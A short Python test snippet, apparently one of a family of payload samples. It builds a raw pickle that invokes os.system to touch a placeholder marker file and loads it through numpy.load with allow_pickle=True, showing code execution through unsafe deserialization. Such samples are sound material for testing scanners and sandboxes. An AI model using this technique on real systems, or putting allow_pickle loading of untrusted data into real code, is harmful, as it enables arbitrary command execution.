# family: pickle payloads (numpy.load(allow_pickle=True))
# goal: unpickle a payload through numpy.load
import io
import numpy as np
payload = b"cos\nsystem\n(S'touch __MARKER_PATH__'\ntR."
np.load(io.BytesIO(payload), allow_pickle=True)
